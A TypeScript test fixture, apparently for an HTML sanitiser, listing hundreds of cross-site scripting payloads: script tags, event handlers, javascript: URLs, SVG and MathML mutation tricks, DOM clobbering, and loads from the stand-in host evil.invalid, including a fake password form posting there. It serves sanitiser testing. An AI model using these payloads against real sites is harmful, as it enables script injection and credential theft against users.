/**
 * HTML that tries to run `hit()`, to reach `evil.invalid` or to break out of where it stands. Gathered from the kinds
 * that sanitisers were beaten by: scripts, handlers, addresses, mutation on a second parse, namespaces, clobbering,
 * styles, Trusted Types gadgets. None is a picture of the web, which content may hold.
 */
const written = String.raw`
<script>hit()</script>
<SCRIPT>hit()</SCRIPT>
<script src="https://evil.invalid/x.js"></script>
<script/src=//evil.invalid/x.js></script>
<script type="module">hit()</script>
<scr<script>ipt>hit()</scr</script>ipt>
<<script>hit();//<</script>
<script>hit()//
<script\x20type="text/javascript">hit();</script>
<script src=data:text/javascript,hit()></script>
<script>/*</title><img src=x onerror=hit()>*/</script>
<script x></script><script>hit()</script y>
</script><script>hit()</script>
<noscript><p title="</noscript><img src=x onerror=hit()>">
<img src=x onerror=hit()>
<IMG SRC=x ONERROR=hit()>
<img src=x onerror="hit()"
<img/src=x/onerror=hit()>
<img	src=x	onerror=hit()>
<img """><script>hit()</script>">
<img src="x" onerror="&#104;&#105;&#116;&#40;&#41;">
<img src='x' o&#110;error='hit()'>
<img src=x:x onerror=hit()//>
<img src=x onerror\x00=hit()>
<img \x00src=x onerror=hit()>
<img src=javascript:hit()>
<img src="jav&#x09;ascript:hit();">
<img src=" &#14;  javascript:hit();">
<img dynsrc="javascript:hit()"><img lowsrc="javascript:hit()">
<img srcset="https://evil.invalid/1.png 1x" alt="set">
<img src="data:image/svg+xml,<svg onload=hit() xmlns=http://www.w3.org/2000/svg>">
<image src=x onerror=hit()>
<image href=x onerror=hit()>
<picture><source srcset="https://evil.invalid/2.png"><img src=x></picture>
<img src=x usemap=#m><map name=m><area shape=rect coords=0,0,999,999 href=javascript:hit()></map>
<a href="javascript:hit()">link</a>
<a href="JaVaScRiPt:hit()">link</a>
<a href="java&#115;cript:hit()">link</a>
<a href="javascript&colon;hit()">link</a>
<a href="javascript&#58hit()">link</a>
<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;hit()">link</a>
<a href="jav&Tab;ascript:hit()">link</a>
<a href="java&NewLine;script:hit()">link</a>
<a href="	javascript:hit()">link</a>
<a href="\x01javascript:hit()">link</a>
<a href="\u00a0javascript:hit()">link</a>
<a href="javascript://evil.invalid/%0ahit()">link</a>
<a href="javascript:/*--></title></style></textarea></script><svg/onload=hit()>">link</a>
<a href="data:text/html,<script>hit()</script>">link</a>
<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">link</a>
<a href="vbscript:hit()">link</a>
<a href="feed:javascript:hit()">link</a>
<a href="view-source:javascript:hit()">link</a>
<a href="blob:https://evil.invalid/9">link</a>
<a href="filesystem:https://evil.invalid/x">link</a>
<a href="jar:https://evil.invalid/!/x">link</a>
<a href="intent://evil.invalid/#Intent;scheme=https;end">link</a>
<a href="chrome://settings">link</a>
<a href="about:blank" onclick=hit()>link</a>
<a href="https://ok.example/" onclick="hit()" onmouseover=hit()>link</a>
<a href="https://ok.example/" target="_self" ping="https://evil.invalid/ping">link</a>
<a href="https://ok.example/" download="x.html">link</a>
<a href='https://ok.example/"onclick="hit()'>link</a>
<a href="https://ok.example/\"><img src=x onerror=hit()>">link</a>
<a xlink:href="javascript:hit()">link</a>
<a class="mention" href="javascript:hit()">@admin</a>
<a class="hashtag" data-tag='"><img src=x onerror=hit()>' href="https://ok.example/tag/x">#x</a>
<a class="hashtag" data-tag="../../../-/share" href="https://ok.example/">#x</a>
<a class="hashtag" data-tag="//evil.invalid" href="https://ok.example/">#x</a>
<a class="u-url mention" data-user="../../oauth/authorize" href="https://ok.example/">@x</a>
<a rel="opener" target="_top" href="https://ok.example/">link</a>
<svg onload=hit()>
<svg/onload=hit()>
<svg><script>hit()</script></svg>
<svg><script href="data:text/javascript,hit()"/></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:hit() /><text x=20 y=20>link</text></a></svg>
<svg><set attributeName="href" to="javascript:hit()"/></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>hit()</script></svg>#x"/></svg>
<svg><use xlink:href="https://evil.invalid/x.svg#a"/></svg>
<svg><image href="https://evil.invalid/x.png" onload="hit()"/></svg>
<svg><foreignObject><iframe srcdoc="<script>hit()</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=hit()></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=hit()>">
<svg><title><style></title><img src=x onerror=hit()></style></svg>
<svg><desc><noscript><img src=x onerror=hit()></noscript></desc></svg>
<svg><discard onbegin=hit()>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hit()</handler></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=hit()>
<math><annotation-xml encoding="text/html"><style><img src=x onerror="hit()"></style></annotation-xml></math>
<math><mi><script>hit()</script></mi></math>
<math><mtext></mtext><mglyph><svg><mtext><style><path id="</style><img onerror=hit() src>">
<math href="javascript:hit()">link</math>
<math><maction actiontype="statusline#https://evil.invalid" xlink:href="javascript:hit()">link</maction></math>
<math><mrow href="javascript:hit()"><mi>x</mi></mrow></math>
<math><mi xlink:href="data:x,<script>hit()</script>">x</mi></math>
<math><mstyle background="url(https://evil.invalid/m)" style="background:url(//evil.invalid/n)"><mn>1</mn></mstyle></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>
<form action="javascript:hit()"><input type=submit>
<form action="https://evil.invalid/"><input name=password><button>Sign in</button></form>
<form id=x></form><button form=x formaction="javascript:hit()">go</button>
<isindex type=image src=1 onerror=hit()>
<input autofocus onfocus=hit()>
<input type=image src=x onerror=hit()>
<input type=hidden accesskey=x onclick=hit()>
<textarea autofocus onfocus=hit()></textarea>
<textarea></textarea><img src=x onerror=hit()></textarea>
<select autofocus onfocus=hit()><option>x</select>
<select><style></select><img src=x onerror=hit()></style>
<keygen autofocus onfocus=hit()>
<button popovertarget=x onclick=hit()>x</button><div popover id=x onbeforetoggle=hit()>y</div>
<iframe src="javascript:hit()"></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe src="https://evil.invalid/"></iframe>
<iframe/onload=hit()></iframe>
<iframe><img src=x onerror=hit()></iframe>
<frameset onload=hit()><frame src=javascript:hit()></frameset>
<embed src="javascript:hit()">
<embed src="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">
<embed code="https://evil.invalid/x.swf" allowscriptaccess=always>
<object data="javascript:hit()"></object>
<object data="data:text/html,<script>hit()</script>"></object>
<object type="text/x-scriptlet" data="https://evil.invalid/x"></object>
<applet code="x" archive="https://evil.invalid/x.jar"></applet>
<portal src="https://evil.invalid/"></portal>
<fencedframe src="https://evil.invalid/"></fencedframe>
<video src=x onerror=hit()></video>
<video poster="https://evil.invalid/p.png"><source onerror="hit()" src=x></video>
<audio src=x onerror=hit() autoplay></audio>
<video><track default src="data:text/vtt,WEBVTT" oncuechange=hit()></video>
<bgsound src="https://evil.invalid/x.mid">
<body onload=hit()>
<body background="https://evil.invalid/b.png">
<html onclick=hit() manifest="https://evil.invalid/x">
<base href="https://evil.invalid/">
<base href="javascript:hit();//">
<link rel=stylesheet href="https://evil.invalid/x.css">
<link rel=preload as=image href="https://evil.invalid/y.png">
<link rel="dns-prefetch" href="//evil.invalid"><link rel=prefetch href="https://evil.invalid/z">
<link rel=import href="data:text/html,<script>hit()</script>">
<link rel=manifest href="https://evil.invalid/manifest.json">
<meta http-equiv=refresh content="0;url=javascript:hit()">
<meta http-equiv=refresh content="0;url=https://evil.invalid/">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
<meta name=referrer content=unsafe-url>
<style>@import "https://evil.invalid/x.css";</style>
<style>*{background:url(https://evil.invalid/s)}</style>
<style><!--</style><img src=x onerror=hit()>-->
<p style="background:url(https://evil.invalid/t)">styled</p>
<p style="background-image:url(javascript:hit())">styled</p>
<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>
<div style="width:expression(hit())">styled</div>
<div style="behavior:url(https://evil.invalid/x.htc)">styled</div>
<xss style="animation-name:x" onanimationstart="hit()"></xss>
<table background="https://evil.invalid/tb.png"><tr><td background="javascript:hit()">cell</td></tr></table>
<table><td><style><img src=x onerror=hit()></style></table>
<font color=red face="x" onclick=hit()>font</font>
<marquee onstart=hit()>moves</marquee>
<details open ontoggle=hit()>details</details>
<details><summary onclick=hit()>s</summary><img src=x onerror=hit()></details>
<dialog open onclose=hit()>dialog</dialog>
<plaintext><img src=x onerror=hit()>
<xmp><img src=x onerror=hit()></xmp>
<listing>&lt;img src=x onerror=hit()&gt;</listing>
<noembed><img src=x onerror=hit()></noembed>
<noframes><img src=x onerror=hit()></noframes>
<template><img src=x onerror=hit()></template>
<template shadowrootmode=open><script>hit()</script></template>
<slot onslotchange=hit()><b>x</b></slot>
<title><img src=x onerror=hit()></title>
<!--<img src="--><img src=x onerror=hit()//">
<!--><img src=x onerror=hit()>-->
<!---><img src=x onerror=hit()>-->
<!-- --!><img src=x onerror=hit()> -->
<![CDATA[<img src=x onerror=hit()>]]>
<?xml version="1.0"?><img src=x onerror=hit()?>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=hit()>">]>&y;
<? foo="><script>hit()</script>">
</ foo="><script>hit()</script>">
<! foo="><script>hit()</script>">
<% foo="><script>hit()</script>">
&lt;script&gt;hit()&lt;/script&gt;
&amp;lt;img src=x onerror=hit()&amp;gt;
&#60;img src=x onerror=hit()&#62;
&#x3C;script&#x3E;hit()&#x3C;/script&#x3E;
+ADw-script+AD4-hit()+ADw-/script+AD4-
\x3cscript\x3ehit()\x3c/script\x3e
${"${hit()}"}{{constructor.constructor('hit()')()}}
"><img src=x onerror=hit()>
'><img src=x onerror=hit()>
\"><script>hit()</script>
--></script><script>hit()</script>
" onmouseover="hit()" x="
' autofocus onfocus=hit() x='
javascript:hit()
<a id=config></a><a id=config name=server href="https://evil.invalid/">clobber</a>
<img name=getElementById><img name=cookie><form name=body></form>
<form id=x tabindex=0 onfocus=hit()><input name=attributes><input name=childNodes></form>
<p id=root>clobber</p><p id="__proto__" class="constructor">x</p>
<b __proto__=x constructor=y hasOwnProperty=z>x</b>
<b class="said mention" data-mfm-speed="url(https://evil.invalid/m)" data-mfm-x="javascript:hit()">classes</b>
<b data-trix-attachment='{"content":"<img src=x onerror=hit()>"}'>x</b>
<div is="x-y" onclick=hit()>x</div>
<x-y onclick=hit() onpointerenter=hit()>custom</x-y>
<script-x>hit()</script-x>
<div dangerouslysetinnerhtml="{__html:'<img src=x onerror=hit()>'}" ref="x" key="y">react</div>
<div onClick={hit()}>react</div>
<p><svg><style><!--</style><img src=x onerror=hit()>--></style></svg></p>
<a><svg><p></a><img src=x onerror=hit()></p></svg>
<table><a href="javascript:hit()"><tr><td>x</td></tr></a></table>
<ruby><rt><script>hit()</script></rt></ruby>
<ol start="1 onclick=hit()" type="javascript:hit()"><li value="'onclick=hit()'">x</ol>
<td colspan="1000000000" rowspan="99999999">big</td>
<time datetime="<img src=x onerror=hit()>">x</time>
<abbr title="<img src=x onerror=hit()>">x</abbr>
<bdo dir="rtl' onclick='hit()">txet</bdo>
<blockquote cite="javascript:hit()">x</blockquote><q cite="https://evil.invalid/">x</q><del cite="javascript:hit()">x</del>
<span lang='"><script>hit()</script>'>x</span>
<a href="https://user:pass@ok.example/?q=&quot;><script>hit()</script>">link</a>
<a href="//ok.example\@evil.invalid/" onfocus=hit() autofocus tabindex=1>link</a>
<b/onpointerdown=hit()/contenteditable/autofocus/onfocus=hit()>x</b>
<p contenteditable tabindex=0 accesskey=a draggable=true nonce=x part=y slot=z itemid=w>x</p>
`;

const handlers =
  "abort auxclick beforeinput beforematch beforetoggle blur canplay change click contentvisibilityautostatechange contextmenu copy cut " +
  "dblclick drag dragend dragenter dragstart drop error focus focusin formdata gotpointercapture hashchange input keydown keypress keyup " +
  "load loadstart mousedown mouseenter mousemove mouseover mouseup mousewheel paste pointerdown pointerenter pointermove pointerover " +
  "pointerrawupdate resize scroll scrollend scrollsnapchange securitypolicyviolation select selectionchange selectstart toggle " +
  "touchstart transitionend transitionrun unload webkitanimationstart wheel";

const character = (_: string, hex: string, unicode: string) => String.fromCharCode(Number.parseInt(hex ?? unicode, 16));
const lines = written.split("\n").filter(Boolean);

/** Every payload, once each. */
export const hostilePayloads: readonly string[] = [
  ...lines.map((line) => line.replace(/\\x([\da-f]{2})|\\u([\da-f]{4})/g, character)),
  ...handlers.split(" ").map((name) => `<b on${name}="hit()" tabindex="0">${name}</b>`),
];

/** The host that no payload may reach. */
export const hostileHost = "evil.invalid";
